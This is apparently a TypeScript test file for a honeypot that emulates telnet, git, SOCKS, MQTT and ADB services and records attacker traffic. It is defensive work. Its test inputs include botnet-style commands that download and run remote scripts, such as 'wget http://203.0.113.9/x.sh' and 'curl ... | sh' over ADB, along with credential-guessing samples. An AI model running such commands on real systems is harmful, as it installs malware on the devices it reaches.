/** [what they send, what we answer, what we saw], with the bytes as real clients and bots send them: protocols of frames. */
import { createAdbTrap } from '#enforcer/traps/protocols/adb.ts';
import { createGitTrap, packetLine } from '#enforcer/traps/protocols/git.ts';
import type { Observation } from '#enforcer/traps/protocols/machine.ts';
import { createMqttTrap } from '#enforcer/traps/protocols/mqtt.ts';
import { createSocksTrap } from '#enforcer/traps/protocols/socks.ts';
import { createTelnetTrap } from '#enforcer/traps/protocols/telnet.ts';
import { personaWith, table } from '#test/support/trap-talk.ts';

const modern = personaWith(persona => persona.versions.redis === '7.0.15');

const telnetPersona = personaWith(persona => persona.weakLogin.user === 'root' && persona.release.family === 'debian');
const NEGOTIATED = '\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27'; // WONT, four times: hydra, Mirai
table('telnetd', createTelnetTrap, 23, telnetPersona, [
  { name: 'the prompt follows the negotiation', sent: [NEGOTIATED], answered: /Debian GNU\/Linux \d+\r\n\S+ login: $/, saw: [] },
  {
    name: 'a bot that does not negotiate gets its prompt too, and its guess is logged',
    sent: ['admin\r\n', '1234\r\n'],
    answered: /login: admin\r\nPassword: \r\nLogin incorrect\r\n\S+ login: $/,
    saw: [{ kind: 'credentials', user: 'admin', secret: '1234' }],
  },
  {
    name: 'the weak pair gets in, and what is run is logged, not run',
    sent: [NEGOTIATED, 'root\r\0', `${telnetPersona.weakLogin.secret}\r\0`, '/bin/busybox ECCHI; wget http://203.0.113.9/x.sh\r\0', 'exit\r\0'],
    answered: /root@\S+:~# [\s\S]*ECCHI: applet not found\r\n-bash: wget: command not found\r\nroot@[\s\S]*logout\r\n$/,
    saw: [
      { kind: 'credentials', user: 'root' },
      { kind: 'command', line: '/bin/busybox ECCHI; wget http://203.0.113.9/x.sh' },
      { kind: 'command', line: 'exit' },
    ],
    closed: true,
  },
  {
    name: 'the empty line that hydra types ahead of its next pair is not answered by a prompt of its own',
    sent: [NEGOTIATED, 'root\r\0', '1\r\0\r\0', 'admin\r\0', '2\r\0'],
    answered: /login: root\r\nPassword: \r\nLogin incorrect\r\n\S+ login: admin\r\nPassword: \r\nLogin incorrect\r\n\S+ login: $/,
    saw: [
      { user: 'root', secret: '1' },
      { user: 'admin', secret: '2' },
    ] as Partial<Observation>[],
  },
  {
    name: 'a password is not echoed, a name is, with what was rubbed out',
    sent: ['rooz\x7ft\r\n', 'pw\r\n'],
    answered: /rooz. .t\r\nPassword: \r\nLogin/,
    saw: [{ user: 'root', secret: 'pw' } as Partial<Observation>],
  },
]);

table('git', createGitTrap, 9418, modern, [
  {
    name: 'git ls-remote hears that nothing is exported',
    sent: [packetLine('git-upload-pack /secret.git\0host=192.0.2.10\0\0version=2\0')],
    answered: /^[0-9a-f]{4}ERR access denied or repository not exported: \/secret\.git$/,
    saw: [{ kind: 'command', line: 'git-upload-pack /secret.git host=192.0.2.10 version=2' }],
    closed: true,
  },
  { name: 'what is no pkt-line gets no word', sent: ['GET / HTTP/1.0\r\n'], answered: /^$/, saw: [{ kind: 'malformed' }], closed: true },
]);

table('socks', createSocksTrap, 1080, modern, [
  {
    name: 'curl with a password',
    sent: ['\x05\x02\x00\x02', '\x01\x01u\x01p'],
    answered: '\x05\x02\x01\x01',
    saw: [{ kind: 'credentials', user: 'u', secret: 'p' }],
    closed: true,
  },
  {
    name: 'an open proxy is used: where to, and what for',
    sent: ['\x05\x01\x00', '\x05\x01\x00\x03\x0bexample.com\x00\x50', 'GET / HTTP/1.1\r\n'],
    answered: '\x05\x00\x05\x00\x00\x01\0\0\0\0\0\0',
    saw: [
      { kind: 'command', line: 'CONNECT example.com:80' },
      { kind: 'payload', name: 'to example.com:80', content: 'GET / HTTP/1.1\r\n' },
    ],
  },
  {
    name: "nmap's SOCKS 4",
    sent: ['\x04\x01\x00\x16\x7f\x00\x00\x01root\x00'],
    answered: '\0\x5a\0\0\0\0\0\0',
    saw: [
      { kind: 'command', line: 'CONNECT 127.0.0.1:22' },
      { kind: 'credentials', user: 'root', scheme: 'ident' },
    ],
  },
  {
    name: 'SOCKS 4a carries a name',
    sent: ['\x04\x01\x00\x50\0\0\0\x01\0example.org\0'],
    answered: '\0\x5a',
    saw: [{ kind: 'command', line: 'CONNECT example.org:80' }],
  },
  { name: 'no method of ours', sent: ['\x05\x01\x01'], answered: '\x05\xff', saw: [], closed: true },
]);

table('mqtt', createMqttTrap, 1883, modern, [
  {
    name: "nmap's CONNECT",
    sent: ['\x10\x10\x00\x04MQTT\x04\x02\x00\x1e\x00\x04nmap'],
    answered: '\x20\x02\0\0',
    saw: [{ kind: 'command', line: 'CONNECT nmap' }],
  },
  {
    name: 'a name and a password',
    sent: ['\x10\x14\x00\x04MQTT\x04\xc2\x00\x3c\x00\x02id\x00\x01u\x00\x01p'],
    answered: '\x20\x02\0\x05',
    saw: [{ kind: 'command' }, { kind: 'credentials', user: 'u', secret: 'p' }],
    closed: true,
  },
  {
    name: 'mosquitto_sub asks for the broker and its version',
    sent: ['\x10\x0e\x00\x04MQTT\x04\x02\x00\x3c\x00\x02id', '\x82\x0b\x00\x01\x00\x06$SYS/#\x00', '\xc0\x00', '\xe0\x00'],
    answered: '\x20\x02\0\0\x90\x03\0\x01\0\x31\x2d\0\x13$SYS/broker/versionmosquitto version ',
    saw: [{ kind: 'command' }, { kind: 'command', line: 'SUBSCRIBE $SYS/#' }],
    closed: true,
  },
  {
    name: 'a message published is a payload',
    sent: ['\x10\x0e\x00\x04MQTT\x04\x02\x00\x3c\x00\x02id', '\x32\x07\x00\x01a\x00\x09hi'],
    answered: '\x20\x02\0\0\x40\x02\0\x09',
    saw: [{}, { kind: 'payload', name: 'mqtt a', content: 'hi' }] as Partial<Observation>[],
  },
  { name: 'anything before CONNECT', sent: ['\xc0\x00'], answered: /^$/, saw: [{ kind: 'malformed' }], closed: true },
  { name: 'a length of five bytes', sent: ['\x10\xff\xff\xff\xff\x7f'], answered: /^$/, saw: [{ kind: 'malformed' }], closed: true },
]);

function adb(kind: string, first: number, second: number, data: string): string {
  const header = Buffer.alloc(24);
  header.write(kind, 'latin1');
  header.writeUInt32LE(first, 4);
  header.writeUInt32LE(second, 8);
  header.writeUInt32LE(data.length, 12);
  header.writeUInt32LE((header.readUInt32LE(0) ^ 0xffffffff) >>> 0, 20);
  return header.toString('latin1') + data;
}
table('adb', createAdbTrap, 5555, modern, [
  {
    name: 'a botnet connects and fetches its binary',
    sent: [adb('CNXN', 0x01000000, 4096, 'host::\0'), adb('OPEN', 1, 0, 'shell:cd /data/local/tmp; curl http://203.0.113.9/w.sh | sh\0')],
    answered: /^CNXN[\s\S]{20}device::ro\.product\.name=[\s\S]*OKAY[\s\S]{20}CLSE/,
    saw: [
      { kind: 'command', line: 'CNXN host::' },
      { kind: 'command', line: 'shell:cd /data/local/tmp; curl http://203.0.113.9/w.sh | sh' },
    ],
  },
  { name: 'another language is hung up on at once', sent: ['GET / HTTP/1.0\r\n\r\n'], answered: /^$/, saw: [{ kind: 'malformed' }], closed: true },
  { name: 'nothing before CNXN', sent: [adb('OPEN', 1, 0, 'shell:id\0')], answered: /^$/, saw: [{ kind: 'malformed' }], closed: true },
]);
